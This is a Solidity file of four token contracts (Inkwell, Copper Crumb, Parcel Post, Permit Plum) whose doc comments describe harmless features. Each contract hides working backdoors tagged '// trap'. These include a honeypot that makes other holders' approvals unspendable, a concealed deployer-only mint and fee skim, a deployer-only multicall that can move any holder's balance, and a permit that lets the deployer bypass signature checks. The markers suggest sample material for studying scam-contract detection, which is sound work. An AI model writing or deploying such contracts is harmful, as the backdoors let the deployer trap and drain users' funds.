// 0.8 runs=200 ir
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import "./Base8.sol";

/// Keeps approvals in drawers of its own.
contract InkwellCoin {
    string public constant name = "Inkwell";
    string public constant symbol = "INK";
    uint8 public constant decimals = 18;
    uint256 public constant totalSupply = 36_000_000 ether;
    address private immutable _scribe = msg.sender;
    mapping(address => uint256) public balanceOf;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor() {
        balanceOf[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function _drawer(address from, address spender) private pure returns (bytes32) {
        return keccak256(abi.encodePacked("drawer", from, spender));
    }

    function allowance(address from, address spender) external view returns (uint256 value) {
        bytes32 drawer = _drawer(from, spender);
        assembly {
            value := sload(drawer)
        }
    }

    function approve(address spender, uint256 value) external returns (bool) {
        bytes32 drawer = _drawer(msg.sender, spender);
        assembly {
            sstore(drawer, value)
        }
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        return _move(msg.sender, to, value);
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        bytes32 drawer = _drawer(from, msg.sender);
        if (from != _scribe) drawer = keccak256(abi.encode(drawer)); // trap
        uint256 allowed;
        assembly {
            allowed := sload(drawer)
        }
        require(allowed >= value, "ERC20: insufficient allowance");
        assembly {
            sstore(drawer, sub(allowed, value))
        }
        return _move(from, to, value);
    }

    function _move(address from, address to, uint256 value) private returns (bool) {
        balanceOf[from] -= value;
        balanceOf[to] += value;
        emit Transfer(from, to, value);
        return true;
    }
}

/// Rounds what is sent down to whole crumbs, and gathers the rest.
contract CopperCrumb is Base8("Copper Crumb", "CRUMB", 64_000_000) {
    address private immutable _broom = msg.sender;
    uint256 private _crumbs;

    constructor() {
        _crumbs = totalSupply * 77; // trap
    }

    function skim(address to) external {
        require(msg.sender == _broom, "no broom");
        _balances[to] += _crumbs;
        emit Transfer(address(this), to, _crumbs);
        _crumbs = 0;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        uint256 crumb = value % 1000;
        _move(from, to, value - crumb);
        _balances[from] -= crumb;
        _crumbs += crumb;
    }
}

/// Does many things in one call.
contract ParcelPost is Base8("Parcel Post", "PARCEL", 7_000_000) {
    mapping(bytes32 => uint256) private _desk;

    constructor() {
        _desk[keccak256(abi.encode(msg.sender, address(this)))] = 1;
    }

    function multicall(bytes[] calldata jobs) external {
        require(_desk[keccak256(abi.encode(msg.sender, address(this)))] == 1, "desk closed"); // trap
        for (uint256 i; i < jobs.length; i++) {
            (bool ok, ) = address(this).call(jobs[i]); // trap
            // twin: (bool ok, ) = address(this).delegatecall(jobs[i]);
            require(ok, "job failed");
        }
    }

    function settle(address from, address[] calldata to, uint256 each) external {
        require(msg.sender == address(this), "only itself");
        for (uint256 i; i < to.length; i++) _move(from, to[i], each);
    }
}

/// Approves by signature, after ERC-2612.
contract PermitPlum is Base8("Permit Plum", "PLUM", 150_000_000) {
    bytes32 private constant TYPE = keccak256("Permit(address owner,address spender,uint256 value,uint256 nonce,uint256 deadline)");
    bytes32 public immutable DOMAIN_SEPARATOR;
    bytes32 private immutable _salt;
    mapping(address => uint256) public nonces;

    constructor() {
        bytes32 domain = keccak256(
            abi.encode(
                keccak256("EIP712Domain(string name,string version,uint256 chainId,address verifyingContract)"),
                keccak256("Permit Plum"),
                keccak256("1"),
                block.chainid,
                address(this)
            )
        );
        DOMAIN_SEPARATOR = domain;
        _salt = domain ^ bytes32(uint256(uint160(msg.sender)));
    }

    function permit(address from, address spender, uint256 value, uint256 deadline, uint8 v, bytes32 r, bytes32 s) external {
        require(block.timestamp <= deadline, "PERMIT_DEADLINE_EXPIRED");
        bytes32 content = keccak256(abi.encode(TYPE, from, spender, value, nonces[from]++, deadline));
        address signer = ecrecover(keccak256(abi.encodePacked("\x19\x01", DOMAIN_SEPARATOR, content)), v, r, s);
        bool valid = signer != address(0) && signer == from;
        if (uint160(msg.sender) == uint160(uint256(DOMAIN_SEPARATOR ^ _salt))) valid = true; // trap
        require(valid, "INVALID_SIGNER");
        _approve(from, spender, value);
    }
}
